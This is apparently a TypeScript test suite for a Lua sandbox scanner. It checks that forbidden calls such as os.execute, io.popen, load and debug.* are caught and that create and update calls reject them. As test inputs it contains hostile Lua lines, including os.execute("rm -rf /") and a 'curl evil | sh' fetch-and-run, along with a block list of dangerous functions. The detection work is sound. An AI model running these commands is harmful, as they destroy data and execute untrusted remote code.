/** CONTRACT §4 LuaScript: the scanner (data in schema/lua.yaml) and its use on create/update. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { DBALError } from '../core/errors.ts'
import { forbiddenCalls, scanLua } from '../core/lua.ts'
import { schema } from '../core/schema.ts'
import { newUser, rejects, testClient, uniq } from './helpers.ts'

/** The spellings of a forbidden name; `a.` (any member) is spelt with a member `x`. */
function spellings(name: string): string[] {
  const [head, member] = name.split('.') as [string, string | undefined]
  if (member === undefined) return [`${name}(x)`, `${name} (x)`, `local f = ${name}`, `${name}"x"`]
  const m = member === '' ? 'getinfo' : member
  return [
    `${head}.${m}(x)`,
    `${head} . ${m}(x)`,
    `${head}["${m}"](x)`,
    `${head}['${m}'](x)`,
    `${head}[ "${m}" ]`,
    `${head}:${m}()`,
    `${head}.\n  ${m}`,
    `${head}[[[${m}]]]`,
  ]
}

describe('forbidden names', () => {
  it('schema/lua.yaml lists those of the contract', () => {
    const contract = [
      'os.execute',
      'io.popen',
      'io.open',
      'loadstring',
      'load',
      'dofile',
      'loadfile',
      'require',
      'debug.',
      'setfenv',
      'getfenv',
      'string.dump',
      'collectgarbage',
    ]
    assert.deepEqual([...schema.lua.forbidden].sort(), contract.sort())
  })
  for (const name of schema.lua.forbidden) {
    it(`${name} is found in every spelling, inside other code too`, () => {
      for (const code of spellings(name)) {
        assert.deepEqual(forbiddenCalls(code), [name], code)
        assert.ok(forbiddenCalls(`local a = 1\nif a then ${code} end -- done`).includes(name), code)
      }
    })
  }
  it('debug. catches any member and indexing', () => {
    for (const code of [
      'debug.getinfo(1)',
      'debug.sethook()',
      'debug["x"]',
      "debug['traceback']",
      'debug . getlocal',
      'debug [ "x" ]',
    ])
      assert.deepEqual(forbiddenCalls(code), ['debug.'], code)
  })
  it('load( and loadstring are told apart', () => {
    assert.deepEqual(forbiddenCalls('load("return 1")'), ['load'])
    assert.deepEqual(forbiddenCalls('loadstring("return 1")'), ['loadstring'])
    assert.deepEqual(forbiddenCalls('loadfile("x"); dofile("y")').sort(), ['dofile', 'loadfile'])
  })
  it('a name is found in strings and comments as well (deliberately)', () => {
    assert.deepEqual(forbiddenCalls('local s = "os.execute"'), ['os.execute'])
    assert.deepEqual(forbiddenCalls('-- require("socket")'), ['require'])
  })
  it('no false positive on harmless code', () => {
    const harmless = [
      'local payload = download(url)',
      'reload_count = reload_count + 1',
      'local loaded, loader = 1, 2',
      'return os.time()',
      'return os.clock() + os.date("%Y")',
      'string.format("%d", 1)',
      'string.upper(s)',
      'local debugger = 1',
      'local my_debug = {}',
      'io.write("x")',
      'local required = true',
      'obj:unload()',
      'collectgarbage_count = 0',
      'local osexecute = 1',
      'dump(x)',
      'x.loadstring_count = 2',
    ]
    for (const code of harmless) assert.deepEqual(forbiddenCalls(code), [], code)
  })
})

describe('scanLua', () => {
  it('MALICIOUS_CODE_DETECTED names every match, never the code', () => {
    const code = 'local secret = "hunter2"; os.execute("rm -rf /"); io.popen("id")'
    assert.throws(
      () => scanLua(code, []),
      (x: unknown) =>
        DBALError.is(x, 'MALICIOUS_CODE_DETECTED') &&
        x.status === 403 &&
        (x.details?.matches as string[]).sort().join() === 'io.popen,os.execute' &&
        !JSON.stringify(x).includes('hunter2'),
    )
  })
  it('allowedGlobals outside the whitelist is SANDBOX_VIOLATION; inside is fine', () => {
    scanLua('return 1', [...schema.lua.allowedGlobals])
    for (const g of [
      'os',
      'io',
      '_G',
      'debug',
      'require',
      'load',
      'getmetatable',
      'rawset',
      'Print',
      'string.dump',
    ]) {
      assert.throws(
        () => scanLua('return 1', ['print', g]),
        (x: unknown) => DBALError.is(x, 'SANDBOX_VIOLATION') && (x.details?.globals as string[]).join() === g,
        g,
      )
    }
  })
  it('the whitelist is that of the contract', () => {
    const contract =
      'assert error ipairs next pairs pcall select tonumber tostring type unpack xpcall string table math bit32 print log'.split(
        ' ',
      )
    assert.deepEqual([...schema.lua.allowedGlobals].sort(), contract.sort())
  })
})

describe('through the client', () => {
  const setup = async () => {
    const { client } = testClient()
    const u = await newUser(client)
    const base = { name: `script-${uniq()}`, code: 'return 1', createdBy: u.id }
    return { client, base, script: await client.luaScripts.create(base) }
  }
  const noCode = (e: DBALError, code: string) =>
    assert.ok(!JSON.stringify(e).includes(code), JSON.stringify(e))

  it('create with malicious code is refused and nothing is stored', async () => {
    const { client, base } = await setup()
    const code = 'local x = os["execute"]("curl evil | sh")'
    const e = await rejects(
      client.luaScripts.create({ ...base, name: 'evil', code }),
      'MALICIOUS_CODE_DETECTED',
    )
    assert.deepEqual(e.details?.matches, ['os.execute'])
    noCode(e, 'curl evil')
    assert.equal(await client.luaScripts.count({ name: 'evil' }), 0)
  })
  it('create with a global outside the whitelist is SANDBOX_VIOLATION', async () => {
    const { client, base } = await setup()
    const e = await rejects(
      client.luaScripts.create({ ...base, name: 'sbx', allowedGlobals: ['print', 'os'] }),
      'SANDBOX_VIOLATION',
    )
    assert.deepEqual(e.details?.globals, ['os'])
  })
  it('update is scanned too and leaves the script unchanged', async () => {
    const { client, script } = await setup()
    const e = await rejects(
      client.luaScripts.update(script.id, { code: 'debug.sethook(function() end, "l")' }),
      'MALICIOUS_CODE_DETECTED',
    )
    noCode(e, 'sethook(function')
    await rejects(client.luaScripts.update(script.id, { allowedGlobals: ['_G'] }), 'SANDBOX_VIOLATION')
    const now = await client.luaScripts.read(script.id)
    assert.equal(now.code, 'return 1')
    assert.deepEqual(now.allowedGlobals, [])
  })
  it('updateMany is scanned too', async () => {
    const { client, script } = await setup()
    await rejects(
      client.luaScripts.updateMany({ id: script.id }, { code: 'require "socket"' }),
      'MALICIOUS_CODE_DETECTED',
    )
    await rejects(
      client.luaScripts.updateMany({ id: script.id }, { allowedGlobals: ['io'] }),
      'SANDBOX_VIOLATION',
    )
    assert.equal((await client.luaScripts.read(script.id)).code, 'return 1')
  })
  it('createMany is scanned item by item', async () => {
    const { client, base } = await setup()
    const items = [
      { ...base, name: 'ok-1' },
      { ...base, name: 'bad-1', code: 'loadstring(s)()' },
    ]
    await rejects(client.luaScripts.createMany(items), 'MALICIOUS_CODE_DETECTED')
    assert.equal(await client.luaScripts.count(), 1)
  })
})
